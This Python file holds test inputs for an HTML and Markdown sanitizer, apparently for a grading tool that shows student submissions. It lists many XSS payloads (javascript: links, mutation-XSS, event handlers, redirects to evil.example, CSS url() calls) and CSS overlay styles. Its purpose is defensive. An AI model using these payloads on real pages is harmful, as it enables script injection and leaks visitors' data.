"""What a hostile student writes so that it acts, or covers something, in the browser of whoever opens the page."""

ACTS = [  # alert(1) stands for whatever an instructor may do
    "[a](files/javascript:alert(1)) <a href='files/javascript:alert(1)'>b</a>",
    "<a href='files/files/javascript:alert(1)'>a</a> <a href=\"x\" title='href=\"files/javascript:alert(1)'>b</a>",
    "<a href='java&#115;cript&colon;alert(1)'>a</a> <a "
    "href='java\tscript:alert(1)'>b</a> <a href='\x01javascript:alert(1)'>c</a>",
    "<a href='JaVa&NewLine;ScRiPt:alert(1)'>a</a> <a "
    "href='javascript&#x3A;alert(1)'>b</a> <a href='&#32;javascript:alert(1)'>c</a>",
    "[a](javascript:alert(1)) [b](<javascript:alert(1)>) [c](javascript&colon;alert(1)) [d](%6aavascript:alert(1))",
    "[a][x] [x] [b][y]\n\n[x]: javascript:alert(1)\n[y]: <data:text/html,<script>alert(1)</script>> 'title'",
    "<javascript:alert(1)> <data:text/html,a> <vbscript:alert(1)> "
    'javascript:alert(1) https://evil.example/"onclick=alert(1)',
    "<a href='vbscript:alert(1)'>a</a> <a href='data:text/html,<script>"
    "alert(1)</script>'>b</a> <a href='file:///etc/passwd'>c</a>",
    "<a href='//evil.example'>a</a> <a href='/api/contents'>b</a> <a "
    "href='../../gradebook'>c</a> <a href='#pad2d'>d</a> <a href=''>e</a>",
    "<a href='view-source:https://evil.example'>a</a> <a href='blob:https://a/b'>b</a> <a href='http:/lab'>c</a>",
    "<a href='https://evil.example' ping='//evil.example/ping' "
    "download onclick='alert(1)' target='_self' rel='opener'>a</a>",
    "<a href='https://evil.example'><a href='javascript:alert(1)'>nested</a></a>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text "
    "y=9>a</text></a><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg> <svg>"
    "</p><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img "
    "title='--&gt;&lt;img src=x onerror=alert(1)&gt;'></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=alert(1) src=1>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>"
    "</noscript> <template><img src=x onerror=alert(1)></template>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title> "
    "<style><img title='</style><img src=x onerror=alert(1)>'></style>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>"
    "</textarea> <xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<select><noembed></select><script>alert(1)</script></noembed> <plaintext><img src=x onerror=alert(1)>",
    "<p id='pad2d' name='submission_id' class='nbgrader_cell score' "
    "data-link='x'>a</p><img name=MathJax><form id=location name=body>",
    "<base href='https://evil.example/'> <meta http-equiv=refresh "
    "content='0;url=https://evil.example'> <link rel=prefetch href=//evil.example>",
    "<form action='https://evil.example' id=f><button>a</button>"
    "</form><button form=f formaction='javascript:alert(1)'>b</button>",
    "<input type=image src=//evil.example formaction=//evil.example "
    "autofocus onfocus=alert(1)><isindex action=javascript:alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe><object "
    "data='javascript:alert(1)'></object><embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)><video><source onerror=alert(1)>"
    "</video><audio src=x onerror=alert(1)><marquee onstart=alert(1)>",
    '![<img src=x onerror=alert(1)>](x"onerror="alert(1)) '
    "![a](javascript:alert(1)) [![b](//evil.example/b.png)](javascript:alert(1))",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)> [a](javascript:alert(1))\n\n*[HTML]: <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)> [a](files/javascript:alert(1))\n\n- "
    "[ ] <script>alert(1)</script>\n\n| <svg/onload=alert(1)> |\n|--|",
    "$<img src=x onerror=alert(1)>$ $$\\href{javascript:alert(1)}{x}$$ \\begin{a}<script>alert(1)</script>\\end{a}",
    "```mermaid\n</pre><script>alert(1)</script>\n```\n\n```<img/src=x/onerror=alert(1)>"
    "\n</code></pre><script>alert(1)</script>\n```",
    "</div></div></div></div></body></html><script>alert(1)</script><body onload=alert(1)>",
    "<!--><script>alert(1)</script>--> <![CDATA[<script>alert(1)</script>]]> "
    "<?xml <script>alert(1)</script>?> <!-- -- --!><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt> <<script>alert(1)//<</script> "
    "<script/x>alert(1)</script> <\x00script>alert(1)</script>",
    "<p style='background:url(//evil.example)'>a</p><p "
    "style='color:red;background-color:url(//evil.example/b);border:1px solid var(--x)'>b</p>",
    "<p style=\"color:red' onclick='alert(1)\">a</p><p style='color:\\72 "
    "ed;list-style-type:url(//evil.example)'>b</p><style>@import '//evil.example'</style>",
    "\u202ecod.exe &#x202e;gnp &rlm;&#8294; \u200f\u061c",
]

COVERS = [  # styles
    "position:fixed;inset:0;z-index:99999",
    "position:absolute;top:-999px;left:-999px;width:9999px;height:9999px",
    "outline:9999px solid red",
    "outline:99em solid red;outline-offset:-9px",
    "margin:-999px",
    "margin:-99em 0 0 -99em",
    "padding:9999px;background-color:red",
    "padding:99em",
    "border:999px solid red",
    "min-width:999em",
    "display:block;margin:calc(0px - 999px)",
    "box-shadow:0 0 0 9999px red",
    "transform:scale(99)",
    "gap:9999px",
    "margin:-9e3px",
    "margin:9px -999px !important",
    "MARGIN:-999PX",
    "margin:/**/-999px",
    "float:left;margin:-50vh",
    "text-align:center;line-height:999;font-weight:bold;font-size:999px",
    "text-indent:-999px;white-space:nowrap",
]
